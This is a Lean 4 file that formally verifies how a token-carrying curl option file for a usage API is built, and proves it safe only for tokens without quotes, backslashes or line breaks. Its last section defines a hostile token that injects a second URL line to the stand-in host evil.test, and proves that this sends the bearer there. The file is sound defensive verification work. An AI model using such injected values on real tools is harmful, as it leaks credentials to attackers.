import Sessiometer.Framing.OptionFile
import Sessiometer.Model.Json

/-! # The usage request

The bearer token of a credential is spliced into the options that `curl` reads from its standard
input. -/

namespace Sessiometer

open Framing

def usageUrl : List Char := "https://api.anthropic.com/api/oauth/usage".toList

def betaHeader : List Char := "anthropic-beta: oauth-2025-04-20".toList

def pollTimeoutSecs : ℕ := 30

/-- The bearer of a credential, unless its token is unreadable. -/
def accessTokenFromBlob [SerdeJson] (blob : List UInt8) : Option String := do
  let value ← SerdeJson.fromSlice blob
  let field ← (((value.get "claudeAiOauth").bind (·.get "accessToken")).or
    (value.get "accessToken")).or (value.get "access_token")
  let token ← field.asStr
  if token.isEmpty then none else some token

def curlConfig (token : List Char) : List Char :=
  "url = \"".toList ++ usageUrl ++ "\"\n".toList ++
    "header = \"Authorization: Bearer ".toList ++ token ++ "\"\n".toList ++
    "header = \"".toList ++ betaHeader ++ "\"\n".toList ++
    "header = \"Accept: application/json\"\n".toList ++
    "silent\n".toList ++
    "show-error\n".toList ++
    "max-time = ".toList ++ Nat.toDigits 10 pollTimeoutSecs ++ "\n".toList ++
    "write-out = \"\\n%\x7bhttp_code\x7d\\n%header\x7bretry-after\x7d\"\n".toList

def bearerHeader (token : List Char) : ConfigOption :=
  ⟨"header".toList, some ("Authorization: Bearer ".toList ++ token)⟩

/-- What `fetch` writes to the standard input of `curl`. -/
def requestConfig [SerdeJson] (blob : List UInt8) : Option (List Char) :=
  (accessTokenFromBlob blob).map (fun token => curlConfig token.toList)

/-- The options that the request names. -/
def requestOptions (token : List Char) : List ConfigOption :=
  [⟨"url".toList, some usageUrl⟩, bearerHeader token, ⟨"header".toList, some betaHeader⟩,
    ⟨"header".toList, some "Accept: application/json".toList⟩, ⟨"silent".toList, none⟩,
    ⟨"show-error".toList, none⟩, ⟨"max-time".toList, some "30".toList⟩,
    ⟨"write-out".toList, some "\n%\x7bhttp_code\x7d\n%header\x7bretry-after\x7d".toList⟩]

/-- A header with a bearer. -/
def bearsToken (e : ConfigOption) : Bool :=
  e.name = "header".toList && e.value.any ("Authorization:".toList.isPrefixOf ·)

/-- The request goes to the one address and bears its token, and says nothing else; the other one
differs in the token only. -/
structure Egress (token config token' config' : List Char) : Prop where
  options : readOptions config = requestOptions token
  url : (readOptions config).filter (·.name = "url".toList) = [⟨"url".toList, some usageUrl⟩]
  bearer : (readOptions config).filter bearsToken = [bearerHeader token]
  differ : readOptions config' = (readOptions config).set 1 (bearerHeader token')

/-- A token that stands for itself between the quotes of one line. -/
def Inert (token : List Char) : Prop := ∀ c ∈ token, c ≠ '"' ∧ c ≠ '\\' ∧ c ≠ '\n'

/-! ## What the options read as -/

section Reading

variable {token token' : List Char}

/-- The options behind the bearer. -/
def trailingOptions : List Char :=
  "header = \"".toList ++ betaHeader ++ "\"\n".toList ++
    "header = \"Accept: application/json\"\n".toList ++
    "silent\n".toList ++
    "show-error\n".toList ++
    "max-time = ".toList ++ Nat.toDigits 10 pollTimeoutSecs ++ "\n".toList ++
    "write-out = \"\\n%\x7bhttp_code\x7d\\n%header\x7bretry-after\x7d\"\n".toList

def urlLine : List Char := "url = \"".toList ++ usageUrl ++ ['"']

theorem curlConfig_eq (token : List Char) : curlConfig token = urlLine ++ '\n' ::
    ("header".toList ++ ' ' :: '=' :: ' ' :: '"' :: ("Authorization: Bearer ".toList ++ token ++
      '"' :: '\n' :: trailingOptions)) := by
  have hheader : "header = \"Authorization: Bearer ".toList =
      "header".toList ++ ' ' :: '=' :: ' ' :: '"' :: "Authorization: Bearer ".toList := by
    decide
  have hclose : "\"\n".toList = ['"', '\n'] := by decide
  unfold curlConfig urlLine trailingOptions
  rw [hheader, hclose]
  simp only [List.append_assoc, List.cons_append, List.nil_append]

theorem readOptions_line {line : List Char} (hline : '\n' ∉ line) (hne : line ≠ [])
    (rest : List Char) :
    readOptions (line ++ '\n' :: rest) = (readOption line).toList ++ readOptions rest := by
  unfold readOptions
  rw [Lines.records_append_sep, Lines.records_of_notMem hline, Lines.record_of_ne_nil hne]

theorem named_header : Named "header".toList where
  plain := fun c hc => by
    have hall : ("header".toList.all fun c => !separates c) = true := by decide
    simpa using List.all_eq_true.mp hall c hc
  first := by decide
  nonempty := by decide

theorem readOptions_url (rest : List Char) : readOptions (urlLine ++ '\n' :: rest) =
    ⟨"url".toList, some usageUrl⟩ :: readOptions rest := by
  have hurl : readOption urlLine = some ⟨"url".toList, some usageUrl⟩ := by decide +kernel
  rw [readOptions_line (by decide) (by decide), hurl]
  rfl

theorem readOptions_trailing : readOptions trailingOptions = (requestOptions []).drop 2 := by
  decide +kernel

/-- The second line is the start of the bearer, up to the first line break of the token. -/
theorem readOptions_header {quoted : List Char} (hquoted : '\n' ∉ quoted) (rest : List Char) :
    readOptions ("header".toList ++ ' ' :: '=' :: ' ' :: '"' :: (quoted ++ '\n' :: rest)) =
      ⟨"header".toList, some (unquote false quoted)⟩ :: readOptions rest := by
  have hname : '\n' ∉ "header".toList := by decide
  have hline : '\n' ∉ "header".toList ++ ' ' :: '=' :: ' ' :: '"' :: quoted := by
    simp only [List.mem_append, List.mem_cons, hname, hquoted, or_false, false_or]
    decide
  have hread := readOptions_line hline (List.append_ne_nil_of_right_ne_nil _ (by simp)) rest
  rw [readOption_quoted named_header] at hread
  rw [← List.cons_append, ← List.cons_append, ← List.cons_append, ← List.cons_append,
    ← List.append_assoc, hread]
  rfl

/-- Where the token has no line break, it is read up to the quote that closes it. -/
theorem readOptions_curlConfig (h : '\n' ∉ token) : readOptions (curlConfig token) =
    ⟨"url".toList, some usageUrl⟩ ::
      ⟨"header".toList, some (unquote false (("Authorization: Bearer ".toList ++ token) ++ ['"']))⟩ ::
        (requestOptions []).drop 2 := by
  have hbearer : '\n' ∉ "Authorization: Bearer ".toList := by decide
  have hquoted : '\n' ∉ ("Authorization: Bearer ".toList ++ token) ++ ['"'] := by
    simp only [List.mem_append, List.mem_singleton, hbearer, h, or_false, false_or]
    decide
  have hclose : "Authorization: Bearer ".toList ++ token ++ '"' :: '\n' :: trailingOptions =
      (("Authorization: Bearer ".toList ++ token) ++ ['"']) ++ '\n' :: trailingOptions := by simp
  rw [curlConfig_eq, readOptions_url, hclose, readOptions_header hquoted, readOptions_trailing]

theorem unquotable_bearer (h : ∀ c ∈ token, Unquotable c) :
    ∀ c ∈ "Authorization: Bearer ".toList ++ token, Unquotable c := by
  intro c hc
  have hall : ("Authorization: Bearer ".toList.all (fun c => c ≠ '"' && c ≠ '\\')) = true := by
    decide
  rcases List.mem_append.mp hc with hfixed | hc
  · have hplain := List.all_eq_true.mp hall c hfixed
    simpa [Unquotable] using hplain
  · exact h c hc

theorem readOptions_inert (h : Inert token) :
    readOptions (curlConfig token) = requestOptions token := by
  have hline : '\n' ∉ token := fun hin => (h _ hin).2.2 rfl
  have hplain : ∀ c ∈ token, Unquotable c := fun c hc => ⟨(h c hc).1, (h c hc).2.1⟩
  rw [readOptions_curlConfig hline, unquote_closed (unquotable_bearer hplain)]
  rfl

/-- A line break cuts the bearer short; a quote or a backslash changes what is read of it. -/
theorem inert_of_readOptions (h : readOptions (curlConfig token) = requestOptions token) :
    Inert token := by
  by_cases hline : '\n' ∈ token
  · exfalso
    obtain ⟨before, after, rfl, hbefore⟩ := List.eq_append_cons_of_mem hline
    have hbearer : '\n' ∉ "Authorization: Bearer ".toList := by decide
    have hquoted : '\n' ∉ "Authorization: Bearer ".toList ++ before := by
      simp only [List.mem_append, hbearer, hbefore, or_false, not_false_iff]
    have hsplit : "Authorization: Bearer ".toList ++ (before ++ '\n' :: after) ++
        '"' :: '\n' :: trailingOptions = ("Authorization: Bearer ".toList ++ before) ++
          '\n' :: (after ++ '"' :: '\n' :: trailingOptions) := by simp
    rw [curlConfig_eq, readOptions_url, hsplit, readOptions_header hquoted] at h
    have hvalue : unquote false ("Authorization: Bearer ".toList ++ before) =
        "Authorization: Bearer ".toList ++ (before ++ '\n' :: after) := by
      have hsecond := congrArg (fun options => options[1]?) h
      exact congrArg (fun e => e.value.getD []) (Option.some.inj hsecond)
    have hlen := length_unquote_le ("Authorization: Bearer ".toList ++ before) false
    rw [hvalue] at hlen
    simp only [List.length_append, List.length_cons] at hlen
    omega
  · rw [readOptions_curlConfig hline] at h
    have hvalue : unquote false (("Authorization: Bearer ".toList ++ token) ++ ['"']) =
        "Authorization: Bearer ".toList ++ token := by
      have hsecond := congrArg (fun options => options[1]?) h
      exact congrArg (fun e => e.value.getD []) (Option.some.inj hsecond)
    intro c hc
    have hplain := unquote_closed_iff.mp hvalue c (List.mem_append_right _ hc)
    refine ⟨hplain.1, hplain.2, ?_⟩
    rintro rfl
    exact hline hc

theorem bearsToken_bearerHeader (token : List Char) : bearsToken (bearerHeader token) = true := by
  unfold bearsToken bearerHeader
  simp

theorem filter_bearsToken (token : List Char) :
    (requestOptions token).filter bearsToken = [bearerHeader token] := by
  have hurl : bearsToken ⟨"url".toList, some usageUrl⟩ = false := by decide
  have htrailing : ((requestOptions []).drop 2).filter bearsToken = [] := by decide
  have hsplit : requestOptions token =
      ⟨"url".toList, some usageUrl⟩ :: bearerHeader token :: (requestOptions []).drop 2 := rfl
  rw [hsplit, List.filter_cons_of_neg (Bool.eq_false_iff.mp hurl),
    List.filter_cons_of_pos (bearsToken_bearerHeader token), htrailing]

theorem egress_curlConfig_iff : Egress token (curlConfig token) token' (curlConfig token') ↔
    Inert token ∧ Inert token' := by
  constructor
  · intro hegress
    have hdiffer := hegress.differ
    rw [hegress.options] at hdiffer
    exact ⟨inert_of_readOptions hegress.options, inert_of_readOptions hdiffer⟩
  · rintro ⟨hinert, hinert'⟩
    have hoptions := readOptions_inert hinert
    refine ⟨hoptions, ?_, ?_, ?_⟩
    · rw [hoptions]
      simp [requestOptions, bearerHeader]
    · rw [hoptions]
      exact filter_bearsToken token
    · rw [hoptions, readOptions_inert hinert']
      rfl

end Reading

/-- The requests of two credentials differ in their bearers only, and go to the one address, exactly
when their tokens have no quote, backslash or line break. -/
theorem egress_iff_inert [SerdeJson] {blob blob' : List UInt8} {token token' : String}
    (h : accessTokenFromBlob blob = some token) (h' : accessTokenFromBlob blob' = some token') :
    ∃ config config', requestConfig blob = some config ∧ requestConfig blob' = some config' ∧
      (Egress token.toList config token'.toList config' ↔
        Inert token.toList ∧ Inert token'.toList) := by
  refine ⟨curlConfig token.toList, curlConfig token'.toList, ?_, ?_, egress_curlConfig_iff⟩
  · unfold requestConfig
    rw [h]
    rfl
  · unfold requestConfig
    rw [h']
    rfl

section Blobs

/-- A document with the token under its documented field. -/
def oauthBlob (token : String) : List UInt8 :=
  ("\x7b\"claudeAiOauth\":\x7b\"accessToken\":\"" ++ token ++ "\"\x7d\x7d").toUTF8.toList

def oauthValue (token : String) : Value :=
  .object [("claudeAiOauth", .object [("accessToken", .string token)])]

/-- Behind its first line the token names a second address. -/
def hostileToken : String := "x\"\nurl = \"https://evil.test/"

/-- The parser on two documents: a plain one, and one whose token holds escapes. -/
local instance blobJson : SerdeJson where
  fromSlice bytes :=
    if bytes = oauthBlob "sk-ant-oat" then some (oauthValue "sk-ant-oat")
    else if bytes = oauthBlob "x\\\"\\nurl = \\\"https://evil.test/" then
      some (oauthValue hostileToken)
    else none

theorem egress_iff_inert_plain : ∃ config config',
    requestConfig (oauthBlob "sk-ant-oat") = some config ∧
      requestConfig (oauthBlob "sk-ant-oat") = some config' ∧
        (Egress "sk-ant-oat".toList config "sk-ant-oat".toList config' ↔
          Inert "sk-ant-oat".toList ∧ Inert "sk-ant-oat".toList) :=
  egress_iff_inert (by decide +kernel) (by decide +kernel)

/-- The token of a credential sends the request, with the bearer, to an address of its own. -/
theorem hostile_token_redirects : ∃ config,
    requestConfig (oauthBlob "x\\\"\\nurl = \\\"https://evil.test/") = some config ∧
      (readOptions config).filter (·.name = "url".toList) =
        [⟨"url".toList, some usageUrl⟩, ⟨"url".toList, some "https://evil.test/".toList⟩] ∧
      ¬ Egress hostileToken.toList config hostileToken.toList config := by
  have hurls : (readOptions (curlConfig hostileToken.toList)).filter (·.name = "url".toList) =
      [⟨"url".toList, some usageUrl⟩, ⟨"url".toList, some "https://evil.test/".toList⟩] := by
    decide +kernel
  refine ⟨curlConfig hostileToken.toList, by decide +kernel, hurls, fun hegress => ?_⟩
  have hurl := hegress.url
  rw [hurls] at hurl
  exact absurd hurl (by decide)

end Blobs

end Sessiometer
